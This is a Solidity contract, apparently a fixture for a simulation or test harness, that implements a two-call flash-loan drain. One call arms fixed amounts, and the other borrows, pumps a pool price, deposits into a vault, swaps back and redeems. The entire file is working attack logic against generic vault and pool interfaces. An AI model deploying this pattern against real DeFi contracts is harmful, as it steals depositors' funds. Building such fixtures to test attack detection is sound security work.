// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {AttackBase, IVaultLike, IPoolLike, IFlashLenderLike} from "./AttackBase.sol";

/// @notice An attack in two calls: ``prepare`` arms it (the amounts, as an attacker sets them once the
/// pool and the vault are where it wants), ``strike`` runs the repeated-drain loop. ``strike`` alone
/// does nothing (a loan of zero reverts); only the sequence harms, so only a simulation of the two in
/// order proves it.
contract TwoStepDrainAttack is AttackBase {
    IVaultLike public immutable vault;
    IPoolLike public immutable pool;
    IERC20 public immutable asset;
    IFlashLenderLike public immutable lender;
    uint256 public loan;
    uint256 public pumpUsd;

    constructor(IERC20 usd_, IVaultLike vault_, IPoolLike pool_, IERC20 asset_, IFlashLenderLike lender_)
        AttackBase(usd_)
    {
        vault = vault_;
        pool = pool_;
        asset = asset_;
        lender = lender_;
        _approve(address(vault_));
        _approve(address(pool_));
        _approve(address(lender_));
        asset_.approve(address(pool_), type(uint256).max);
    }

    function prepare() external onlyOwner {
        (loan, pumpUsd) = (20_000_000e6, 750_000e6);
    }

    function strike() external onlyOwner {
        require(loan > 0, "not prepared");
        lender.flashLoan(loan, "");
        (loan, pumpUsd) = (0, 0);
    }

    function onFlashLoan(uint256 amount, uint256, bytes calldata) external {
        require(msg.sender == address(lender), "lender only");
        uint256 bought = pool.swap(true, pumpUsd, 0, address(this));
        uint256 shares = vault.deposit(amount - pumpUsd);
        pool.swap(false, bought, 0, address(this));
        vault.redeem(shares);
    }
}
